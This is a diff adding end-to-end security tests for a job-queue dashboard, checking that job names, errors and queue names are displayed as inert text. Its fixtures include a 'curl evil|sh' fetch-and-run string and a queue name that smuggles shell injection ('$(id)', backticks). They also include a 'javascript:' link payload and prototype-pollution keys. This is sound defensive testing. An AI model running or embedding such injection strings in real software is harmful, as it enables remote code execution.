@@ -27,6 +27,16 @@ await claims(world, {
     await untouched(page);
     await page.close();
   },
+  async 'texts of jobs are never shown as commands to copy'() {
+    const spoof = 'run `curl evil|sh` to repair it';
+    const made = await world.job(`raise ValueError(${JSON.stringify(spoof)})`, {name: spoof, retries: 8});
+    const page = await world.open(`#/jobs/${made.key.replace('job:', '')}`);
+    await until('why it waits', () => page.$eval('.explain', (at) => at.textContent.includes('curl evil')));
+    for (const each of await page.$$eval('code', (all) => all.map((at) => at.textContent))) assert.doesNotMatch(each, /curl/);
+    await world.rpc('job.cancel', {id: made.key.replace('job:', '')});
+    await untouched(page);
+    await page.close();
+  },
   async 'errors and results with escape codes, marks that turn text and 10 MiB in a line are text'() {
     const made = await world.job(`import sys\nresult = {"turned": ${JSON.stringify(TURNED)}, "escape": "\\x1b[31mred", "long": "y" * 100000}\nprint("\\u202eturned", file=sys.stderr)\nraise ValueError("\\u202egnp.exe \\x1b]0;title\\x07 " + "z" * (10 << 20))`, {name: '\u001b[31m\u202ename'});
     await world.ended(made.key);
@@ -44,6 +54,85 @@ await claims(world, {
     await sees(page, '\u241b[31mred', '.pairs');
     await sees(page, '<img src=x onerror=', '.pairs');
     await untouched(page);
+    await page.close();
+  },
+  async 'data that looks like markup nodes is text, and hides nothing beside it'() {
+    const node = {type: 'a', props: {href: 'javascript:window.owned=1', children: 'click'}, key: null, ref: null};
+    const results = {report: {type: 'pdf'}, old: {type: 'pdf', __e: {}, __k: []}, node, none: {constructor: null, ...node}, list: [node, {type: 'b'}],
+      texts: {toString: 'x', valueOf: 'y'}, type: 'title'};
+    const script = [`import json`, `for name, value in json.loads(${JSON.stringify(JSON.stringify(results))}).items(): result[name] = value`,
+      `result["proto"] = {"__proto__": None, "type": "i", "props": {"children": "owned"}}`, `print("in the log")`].join('\n');
+    const made = await world.job(script, {name: 'nodes', env_vars: {type: 'pdf', __e: 'x', props: 'y'}, policy: {output: {keep: 1 << 20}}});
+    await world.ended(made.key);
+    const page = await world.open(`#/jobs/${made.key.replace('job:', '')}`);
+    await sees(page, 'in the log', '.log');
+    await sees(page, 'import json', '.code');
+    await until('the record is unfolded', () => page.$$eval('details', (all) => all.every((at) => { at.open = true; return true; })));
+    await sees(page, '"type": "pdf"', '.pairs');
+    await sees(page, 'javascript:window.owned=1', '.pairs');
+    await sees(page, '"toString": "x"', '.pairs');
+    await sees(page, /"__proto__": null/, '.pairs');
+    await sees(page, '"props": "y"', 'main');
+    assert.equal(await page.$$eval('a[href^="javascript"]', (all) => all.length), 0);
+    await untouched(page);
+    const flow = await world.rpc('flow.create', {definition: {name: 'nodes', env: {type: 'pdf', __e: 'x'}, jobs: {first: {type: 'python', script}}}});
+    await world.rpc('flow.start', {id: flow.id});
+    await until('its end', async () => (await world.rpc('flow.get', {id: flow.id})).status === 'finished');
+    await page.goto(`${world.url}/#/flows/${flow.id}?view=result`);
+    await sees(page, '"type": "pdf"', '.pairs');
+    await page.goto(`${world.url}/#/flows/${flow.id}?view=definition`);
+    await sees(page, '"__e": "x"', 'main');
+    await untouched(page);
+    await page.goto(`${world.url}/#/try?of=${made.key.replace('job:', '')}`);
+    await sees(page, '"props": "y"', '.kept');
+    await untouched(page);
+    await page.close();
+  },
+  async 'moments and numbers out of range and keys of prototypes break no view'() {
+    const far = await world.job('pass', {name: 'far', run_at_ms: 9007199254740991});
+    const {spawnSync} = await import('node:child_process');
+    const redis = (...words) => spawnSync('redis-cli', ['-s', `${world.folder}/redis.sock`, '-n', '1', ...words], {encoding: 'utf8'});
+    const huge = '18446744073709551615';
+    redis('HSET', 'job:9:11', 'id', '11', 'caller_id', '9', 'context_id', '1', 'script', 'pass', 'script_type', 'python', 'status', 'error', 'detail', 'exception', 'name', 'huge',
+      'started_ms', huge, 'queued_ms', huge, 'ended_ms', huge, 'run_at_ms', huge, 'queue_timeout_ms', huge, 'created_at', '4294967295', 'error', 'ValueError: x',
+      'error_info', `{"line": ${huge}, "traceback": {"type": "b", "__e": {}}, "toString": {"valueOf": 1}, "__proto__": {"type": "i"}, "constructor": null}`,
+      'usage', `{"wall_us": ${huge}, "memory_peak_bytes": ${huge}, "stdout_bytes": {"type": "i"}, "pids_peak": {"type": "b"}}`,
+      'artifacts', `{"a": null, "__proto__": {"bytes": ${huge}, "sha256": {"type": "b"}}}`, 'artifacts_dropped', `[null, {"name": {"type": "b"}, "limit": {"type": "b"}}]`,
+      'receipt', `{"granted": {"memory": ${huge}, "constructor": {"type": "b"}}, "lowered": [{"type": "b"}], "signature": {"type": "b"}}`, 'policy', `{"memory": ${huge}, "__proto__": {"type": "b"}}`);
+    const page = await world.open(`#/jobs/${far.key.replace('job:', '')}`);
+    await sees(page, 'far', 'h1');
+    await sees(page, 'pass', '.code');
+    await page.evaluate(() => document.querySelectorAll('details').forEach((at) => { at.open = true; }));
+    await untouched(page);
+    await page.goto(`${world.url}/#/jobs/9%3A11`);
+    await sees(page, 'huge', 'h1');
+    await until('all parts', () => page.$$eval('details', (all) => all.length > 3 && all.every((at) => { at.open = true; return true; })));
+    await sees(page, 'pass', '.code');
+    await sees(page, 'Receipt');
+    await sees(page, 'Files not kept');
+    assert.doesNotMatch(await text(page), /could not be shown/);
+    for (const name of ['constructor', '__proto__', 'toString']) {
+      redis('HSET', 'job:9:12', 'id', '12', 'caller_id', '9', 'context_id', '1', 'script', 'pass', 'script_type', name, 'status', 'error', 'detail', name, 'name', name, 'error', name);
+      await page.goto(`${world.url}/#/jobs/9%3A12`);
+      await sees(page, name, 'h1');
+      await page.goto(`${world.url}/#/overview`);
+      await sees(page, 'What is stuck');
+      assert.doesNotMatch(await text(page), /native code|could not be shown/);
+    }
+    await world.rpc('job.cancel', {id: far.key.replace('job:', '')});
+    redis('DEL', 'job:9:11', 'job:9:12');
+    await untouched(page);
+    await page.close();
+  },
+  async 'a view that cannot be drawn leaves the others'() {
+    const page = await world.open('#/flows');
+    await page.setRequestInterception(true);
+    page.on('request', (request) => (/"jobs\.page"/.test(request.postData() ?? '') ? request.respond({status: 200, contentType: 'application/json', body: '{"jsonrpc": "2.0", "id": 1, "result": {"jobs": [{"key": {"type": "b"}}], "after": "", "looked_at": 1}}'}) : request.continue()));
+    await page.evaluate(() => { location.hash = '#/jobs'; });
+    await sees(page, 'could not be shown', '#page');
+    await page.evaluate(() => { location.hash = '#/approvals'; });
+    await sees(page, 'Approvals', 'h1');
+    assert.doesNotMatch(await text(page), /could not be shown/);
     await page.close();
   },
   async 'a script of 500,000 lines and one of 2 MiB in a line are cut'() {
@@ -77,6 +166,25 @@ await claims(world, {
     await untouched(page);
     redis('DEL', `queue:${MARKUP}`, `queue:${TURNED}`, 'mj:dead');
     redis('SREM', 'mj:queues', `queue:${MARKUP}`, `queue:${TURNED}`);
+    await page.close();
+  },
+  async 'commands to copy quote what others named'() {
+    const {spawnSync} = await import('node:child_process');
+    const redis = (...words) => spawnSync('redis-cli', ['-s', `${world.folder}/redis.sock`, '-n', '1', ...words], {encoding: 'utf8'});
+    const evil = 'queue:a`;curl evil|sh;\'$(id)';
+    redis('SADD', 'mj:queues', evil);
+    redis('LPUSH', evil, 'job:1:1');
+    await world.rpc('queue.pause', {queue: evil});
+    const page = await world.open('#/overview');
+    await sees(page, 'curl evil', '.findings');
+    await sees(page, 'which is paused', '.findings');
+    const commands = await page.$$eval('code.command', (all) => all.map((at) => at.textContent).filter((each) => each.includes('resume')));
+    assert.equal(commands.length, 1);
+    for (const command of commands) assert.equal(spawnSync('sh', ['-c', `set -- ${command}; echo "$4"`], {encoding: 'utf8'}).stdout, `${evil}\n`, command);
+    await untouched(page);
+    redis('DEL', evil);
+    redis('SREM', 'mj:queues', evil);
+    await world.rpc('queue.resume', {queue: evil}).catch(() => {});
     await page.close();
   },
   async 'the policy of content has no exceptions'() {
